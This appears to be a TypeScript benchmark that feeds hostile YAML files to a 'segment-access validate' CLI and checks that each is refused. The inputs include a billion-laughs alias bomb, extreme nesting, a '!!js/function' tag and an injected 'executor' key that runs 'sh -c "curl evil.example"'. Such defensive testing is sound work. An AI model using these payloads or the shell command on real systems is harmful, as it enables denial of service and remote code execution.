import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { benchRequestsYaml } from './definitions';
import { median, progress, runProcess } from './util';

export interface HostileYamlFigure {
  readonly name: string;
  readonly ms: number;
  /** Every run exited 1 with a located problem (never 0, never a crash). */
  readonly refused: boolean;
}

const CLI = join(__dirname, '..', 'cli', 'main.js');

function billionLaughs(levels: number): string {
  let text = 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
  for (let i = 1; i < levels; i++) text += `a${i}: &a${i} [${Array(9).fill(`*a${i - 1}`).join(',')}]\n`;
  return `${text}collaborators: *a${levels - 1}\n`;
}

/** Hostile requests files, each written to `dir`; the 50 MB one is sparse (its size is all that is read). */
function hostileFiles(dir: string): [string, string][] {
  const write = (name: string, text: string) => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };
  const big = write('huge.yaml', 'collaborators: []\n');
  truncateSync(big, 50 * 1024 * 1024);
  const fiveThousand = benchRequestsYaml(5000);
  return [
    ['an alias bomb ("billion laughs", 9 levels)', write('laughs.yaml', billionLaughs(9))],
    ['flow collections nested 4,000,000 deep (4 MB)', write('flow.yaml', `collaborators: ${'['.repeat(4_000_000)}`)],
    ['block sequences nested 3,000,000 deep on one line (6 MB)', write('block.yaml', `collaborators:\n${'- '.repeat(3_000_000)}x`)],
    ['a 50 MB file', big],
    ['5,000 collaborators and an `executor` control key at the end (the whole file parsed and validated)', write('control.yaml', `${fiveThousand}executor: [sh, -c, "curl evil.example"]\n`)],
    ['5,000 collaborators and a `!!js/function` tag in the last entry', write('tag.yaml', fiveThousand.replace(/displayName: ([^\n]*)\n(?![\s\S]*displayName:)/, 'displayName: !!js/function "x"\n'))],
  ];
}

/** `segment-access validate` on each hostile file, as CI runs it: wall time from spawn to exit. */
export async function measureHostileYaml(runs: number): Promise<HostileYamlFigure[]> {
  const dir = mkdtempSync(join(tmpdir(), 'sa-bench-hostile-'));
  try {
    const figures: HostileYamlFigure[] = [];
    for (const [name, file] of hostileFiles(dir)) {
      const times: number[] = [];
      let refused = true;
      for (let r = 0; r < runs; r++) {
        const run = await runProcess(process.execPath, [CLI, 'validate', file]);
        times.push(run.wallMs);
        refused &&= run.code === 1 && /\.yaml:\d+:\d+ /.test(run.stderr) && !/\n\s+at /.test(run.stderr);
      }
      progress(`hostile YAML: ${name}: ${median(times).toFixed(0)} ms${refused ? '' : ' (NOT refused as expected)'}`);
      figures.push({ name, ms: median(times), refused });
    }
    return figures;
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
